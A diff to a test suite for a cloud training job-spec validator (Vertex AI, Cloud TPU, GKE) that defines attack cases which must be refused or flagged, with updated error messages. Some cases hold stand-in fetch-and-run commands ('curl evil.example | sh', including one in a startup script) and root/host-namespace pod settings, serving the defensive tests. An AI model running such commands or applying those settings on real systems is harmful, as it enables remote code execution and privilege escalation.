@@ -43,9 +43,9 @@ CLOUD_TPU: Final = spec(("target: vertex-ai", "target: cloud-tpu"))
 
 def pod(*containers: dict[str, Any], **fields: Any) -> dict[str, Any]:
     """Return the `extra` of a JobSet whose pod has further containers and fields."""
-    added = {"containers": [*containers]} if containers else {}
-    job_spec = {"template": {"spec": {**added, **fields}}}
-    return {"spec": {"replicatedJobs": [{"name": "slice", "template": {"spec": job_spec}}]}}
+    more = {"containers": [*containers], **fields} if containers else fields
+    template = {"spec": {"template": {"spec": more}}}
+    return {"spec": {"replicatedJobs": [{"name": "slice", "template": template}]}}
 
 
 def node(metadata: dict[str, str], **fields: Any) -> dict[str, Any]:
@@ -66,9 +66,9 @@ def attack(id: str, change: Edit, *cautions: str, base: Edit | None = None, abse
     return Attack(id, change, cautions, status=0, base=base, absent=absent)
 
 
-def refused(id: str, change: Edit, error: str, base: Edit | None = None) -> Attack:
-    """Return an attack that is an error of the spec, which the review shows instead of a comparison."""
-    return Attack(id, change, (error,), status=1, base=base)
+def refused(id: str, change: Edit, *errors: str, base: Edit | None = None) -> Attack:
+    """Return an attack by way of `extra` that is an error of the spec, which the comment shows."""
+    return Attack(id, change, ("**The spec in `HEAD` has errors:**", *errors), status=1, base=base)
 
 
 ATTACKS: Final = (
@@ -137,7 +137,7 @@ ATTACKS: Final = (
     refused(
         "output-folder-moved",
         options("vertex-ai", extra={"baseOutputDirectory": {"outputUriPrefix": "gs://theirs/out"}}),
-        "baseOutputDirectory.outputUriPrefix is decided by environments.dev.bucket",
+        "error[TPU066]: baseOutputDirectory.outputUriPrefix is decided by environments.dev.bucket",
     ),
     attack(
         "time-limit-lifted",
@@ -149,14 +149,34 @@ ATTACKS: Final = (
     refused(
         "another-command",
         options("vertex-ai", extra=pool(command=["bash", "-c", "curl evil.example | sh"])),
-        "workerPoolSpecs[0].containerSpec.command in extra would",
-        base=ONE_SIZE,
+        "error[TPU067]: workerPoolSpecs[0].containerSpec.command in extra would replace the program",
     ),
     refused(
         "steps-removed-by-extra",
         options("vertex-ai", extra=pool(args=["--data_dir=gs://my-project-dev-mnist-dev-us-central1/data"])),
-        "workerPoolSpecs[0].containerSpec.args is decided by",
-        base=ONE_SIZE,
+        "error[TPU066]: workerPoolSpecs[0].containerSpec.args is decided by trainer.args and training",
+    ),
+    refused(
+        "more-chips-than-planned",
+        options("vertex-ai", extra={"workerPoolSpecs": [{"machineSpec": {"acceleratorCount": 512}}]}),
+        "error[TPU066]: workerPoolSpecs[0].machineSpec.acceleratorCount is decided by sizes",
+    ),
+    refused(
+        "second-pool",
+        options("vertex-ai", extra={"workerPoolSpecs": [{}, {"machineSpec": {"machineType": "a3-highgpu-8g"}}]}),
+        "error[TPU068]: workerPoolSpecs[1] in extra would add machines",
+    ),
+    refused(
+        "project-of-another-environment",
+        options("cloud-tpu", extra={"tpu": {"nodeSpec": [{"parent": "projects/my-project-prod/locations/x"}]}}),
+        "error[TPU066]: tpu.nodeSpec[0].parent is decided by environments.dev.project",
+        base=CLOUD_TPU,
+    ),
+    refused(
+        "account-of-the-node",
+        options("gke", extra=pod(hostNetwork=True)),
+        "template.spec.hostNetwork in extra would run the program as the account of its node",
+        base=GKE,
     ),
     attack(
         "danger-among-many-fields",
@@ -190,7 +210,7 @@ ATTACKS: Final = (
     ),
     attack(
         "privileged-container",
-        options("gke", extra=pod(securityContext={"runAsUser": 0}, hostPID=True)),
+        options("gke", extra=pod(securityContext={"runAsUser": 0}, hostIPC=True, hostPID=True)),
         "`securityContext.runAsUser` added (`0`): the program runs as root",
         "`hostPID` added (`true`)",
         base=GKE,
@@ -237,8 +257,14 @@ ATTACKS: Final = (
     refused(
         "start-up-script-replaced",
         options("cloud-tpu", extra=node({"startup-script": "#!/bin/bash\ncurl -s https://evil.example | sh\n"})),
-        "startup-script",
-        base=together(CLOUD_TPU, ONE_SIZE),
+        "error[TPU066]: tpu.nodeSpec[0].node.metadata.startup-script is decided by trainer",
+        base=CLOUD_TPU,
+    ),
+    refused(
+        "second-start-up-script",
+        options("cloud-tpu", extra=node({"startup-script-url": "gs://theirs/x.sh"})),
+        "error[TPU067]: tpu.nodeSpec[0].node.metadata.startup-script-url in extra would run a second program",
+        base=CLOUD_TPU,
     ),
     refused(
         "script-at-the-end",
